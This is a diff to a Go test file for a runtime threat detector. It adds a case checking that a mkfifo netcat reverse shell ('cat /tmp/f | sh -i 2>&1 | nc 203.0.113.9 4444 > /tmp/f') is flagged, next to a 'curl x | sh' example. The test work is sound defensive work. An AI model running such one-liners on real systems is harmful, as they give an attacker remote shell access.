@@ -113,6 +113,16 @@ func TestDetections(t *testing.T) {
 			want: []string{"runtime-reverse-shell: \"sh -i\" (pid 902, parent pid 900) runs in a pipeline with the network relay nc (pid 903), which connected it to TCP to 203.0.113.9:4444"},
 		},
 		{
+			name: "mkfifo relay whose nc connected before the shell's exec arrived",
+			events: []*event.Event{
+				execEv(930, 1, inPod, "/bin/sh", []string{"sh", "-c", "cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f"}, [3]event.FD{}, nil),
+				execEv(933, 930, inPod, "/bin/nc", []string{"nc", "203.0.113.9", "4444"}, [3]event.FD{}, nil),
+				{Kind: event.KindConnect, Origin: inPod, Process: event.Process{PID: 933, PPID: 930}, Conn: &event.Conn{Socket: *peer, Established: true}},
+				execEv(932, 930, inPod, "/bin/sh", []string{"sh", "-i"}, [3]event.FD{}, nil),
+			},
+			want: []string{"runtime-reverse-shell: \"sh -i\" (pid 932, parent sh (pid 930)) started in a pipeline with the network relay nc (pid 933), which connected it to TCP to 203.0.113.9:4444"},
+		},
+		{
 			name: "a pipeline of a shell and curl is not a relay",
 			events: []*event.Event{
 				execEv(910, 1, inPod, "/bin/sh", []string{"sh", "-c", "curl x | sh"}, [3]event.FD{}, nil),
